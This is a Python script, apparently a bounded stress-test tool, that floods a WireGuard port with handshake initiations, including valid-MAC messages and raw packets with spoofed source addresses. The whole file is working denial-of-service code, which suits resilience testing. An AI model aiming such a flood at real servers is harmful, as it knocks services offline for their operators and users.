"""Floods a WireGuard port with handshake initiations, at a bounded rate and for a bounded time.

    handshake_flood.py KIND TARGET PORT PUBLIC_KEY RATE SECONDS

KIND: `forged` (random first MAC, one source), `spoofed` (right first MAC, a source of its own each, from 198.18.0.0/15,
which RFC 2544 keeps for such things), `single` (right first MAC, one source). RATE is messages a second. Needs root for
`spoofed`. Prints how many went out.
"""

import base64
import hashlib
import os
import random
import socket
import struct
import sys
import time

VARIANTS = 512


def initiation(public_key: bytes, right: bool) -> bytes:
    """148 bytes; everything but the first MAC is random, as from somebody who knows the public key only."""
    body = b"\x01\0\0\0" + os.urandom(112)
    if not right:
        return body + os.urandom(16) + bytes(16)
    key = hashlib.blake2s(b"mac1----" + public_key).digest()
    return body + hashlib.blake2s(body, digest_size=16, key=key).digest() + bytes(16)


def spoofed(message: bytes, target: str, port: int) -> bytes:
    """With headers of IPv4 and UDP; the kernel fills in the checksum of the former, the latter goes without."""
    source = 0xC612_0000 + random.randrange(1 << 17)
    udp = struct.pack("!HHHH", random.randrange(1024, 65536), port, 8 + len(message), 0)
    ip = struct.pack("!BBHHHBBHI4s", 0x45, 0, 0, 0, 0, 64, 17, 0, source, socket.inet_aton(target))
    return ip + udp + message


def main() -> None:
    kind, target, port, key, rate, seconds = sys.argv[1:]
    key, rate, port = base64.b64decode(key), int(rate), int(port)
    messages = [initiation(key, kind != "forged") for _ in range(VARIANTS)]
    if kind == "spoofed":
        # Few messages, many sources.
        messages = [spoofed(message, target, port) for message in messages for _ in range(32)]
        out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    else:
        out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sent, begun = 0, time.monotonic()
    while (passed := time.monotonic() - begun) < float(seconds):
        # What is due by now, a bounded burst at a time.
        for _ in range(min(int(passed * rate) - sent, 512)):
            try:
                out.sendto(messages[sent % len(messages)], (target, port))
            except OSError:
                pass
            sent += 1
        time.sleep(0.001)
    print(sent, flush=True)


main()
